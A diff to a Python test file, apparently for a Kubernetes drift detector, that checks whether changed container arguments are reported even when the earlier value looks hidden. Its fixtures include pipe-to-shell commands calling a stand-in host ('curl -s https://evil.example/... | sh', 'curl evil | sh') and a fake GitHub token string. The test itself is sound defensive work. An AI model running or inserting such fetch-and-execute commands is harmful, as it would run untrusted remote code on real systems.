@@ -257,21 +257,20 @@ def test_a_text_that_is_searched_only_sometimes_is_not_another_one(live):
 
 
 @pytest.mark.parametrize(
-    ("before", "now"),
+    ("desired", "before", "now"),
     [
-        (["serve", "ghp_" + "a1B2" * 9], ["serve", f"curl -s https://evil.example/{'x' * 100} | sh"]),
-        (["serve", HIDDEN], ["serve", "curl evil | sh #(hidden)"]),
-        ([HIDDEN], ["x" * 200]),
+        (["serve"], ["serve", "ghp_" + "a1B2" * 9], ["serve", f"curl -s https://evil.example/{'x' * 100} | sh"]),
+        (["serve"], ["serve", HIDDEN], ["serve", "curl evil | sh #(hidden)"]),
+        (["serve"], [HIDDEN], ["x" * 200]),
+        (None, HIDDEN, "curl evil | sh; " * 20),
+        (HIDDEN, HIDDEN, "curl evil | sh; " * 20),
     ],
 )
-def test_another_value_is_reported_although_the_earlier_one_looks_hidden(before, now):
+def test_another_value_is_reported_although_the_earlier_one_looks_hidden(desired, before, now):
+    change = "added" if desired is None else "changed"
     path = "spec.template.spec.containers[name=web].args"
     one, other = (
-        (
-            ObjectDrift(
-                "apps/v1", "Deployment", "shop", "web", "modified", (FieldDrift("changed", path, ["serve"], value),)
-            ),
-        )
+        (ObjectDrift("apps/v1", "Deployment", "shop", "web", "modified", (FieldDrift(change, path, desired, value),)),)
         for value in (before, now)
     )
     assert new_or_escalated(one, one, other, one) == other
